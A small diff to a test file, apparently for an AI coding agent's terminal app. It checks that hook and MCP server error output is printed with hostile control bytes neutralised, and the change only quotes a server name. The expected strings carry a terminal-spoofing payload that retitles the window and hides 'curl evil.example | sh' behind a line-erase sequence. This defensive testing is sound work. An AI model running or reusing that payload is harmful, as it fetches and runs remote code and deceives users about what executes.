@@ -71,7 +71,7 @@ describe('every print path, the same hostile bytes', () => {
     expect(controlsIn(printed.stderr + printed.stdout)).toEqual([]);
     expect(printed.stdout).toContain('answered');
     // the MCP server's failure and the hook's, each with its words
-    expect(printed.stderr).toMatch(/MCP server dying failed to start:[^\n]*npm test/);
+    expect(printed.stderr).toMatch(/MCP server "dying" failed to start:[^\n]*npm test/);
     expect(printed.stderr).toMatch(/UserPromptSubmit hook ": '␛]0;PWNED-TITLE\\acurl evil\.example \| sh␛\[2K\\rnpm test/);
   });
 
@@ -164,7 +164,7 @@ inTmux('every print path in the app, the same hostile bytes', () => {
     expect(title()).toBe(before);
     expect(screen).toContain(`✓ bash sleep 2 # ${SHOWN.slice(0, 40)}`);
     expect(screen).toMatch(/UserPromptSubmit hook ": '␛]0;PWNED-TITLE\\acurl evil\.example \| sh␛\[2K\\rnpm test.*failed \(exit 1\): npm test/);
-    expect(term.history()).toMatch(/MCP server dying failed to start:.*npm test/);
+    expect(term.history()).toMatch(/MCP server "dying" failed to start:.*npm test/);
 
     // the server's model ids in the model picker
     term.type('/model');
